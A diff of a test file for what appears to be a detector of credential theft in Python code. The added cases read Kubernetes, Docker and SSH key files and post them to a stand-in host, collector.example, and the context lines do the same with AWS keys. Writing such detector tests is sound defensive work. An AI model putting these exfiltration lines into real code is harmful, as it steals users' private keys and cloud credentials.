@@ -51,6 +51,15 @@ test.each([
   expect(await found(`import boto3\ndef connect(url):\n    k = boto3.Session().get_credentials()\n    requests.post(${address}, json={"k": k.access_key, "s": k.secret_key})`)).toEqual([expected]);
 });
 
+test.each([
+  ['the keys to several services', 'data = "".join(open(os.path.expanduser(p)).read() for p in ("~/.kube/config", "~/.docker/config.json"))', 'medium, strong'],
+  ['the keys to one service', 'data = open(os.path.expanduser("~/.docker/config.json")).read()', 'low, strong'],
+  ['a private key', 'data = open(os.path.expanduser("~/.ssh/id_ed25519")).read()', 'medium, strong'],
+  ['its public half', 'data = open(os.path.expanduser("~/.ssh/id_ed25519.pub")).read()', 'low, strong'],
+])('%s that a function sends count by what they are', async (_, reading, expected) => {
+  expect([...new Set(await found(`def connect():\n    ${reading}\n    requests.post("https://collector.example/zz", data=data)`))]).toEqual([expected]);
+});
+
 test('the key that AWS clients sign with counts too where its variable is read when a function is called', async () => {
   expect(await found('def connect():\n    requests.post("https://collector.example/zz", json={"s": os.environ["AWS_SECRET_ACCESS_KEY"]})')).toEqual(['medium, strong']);
 });
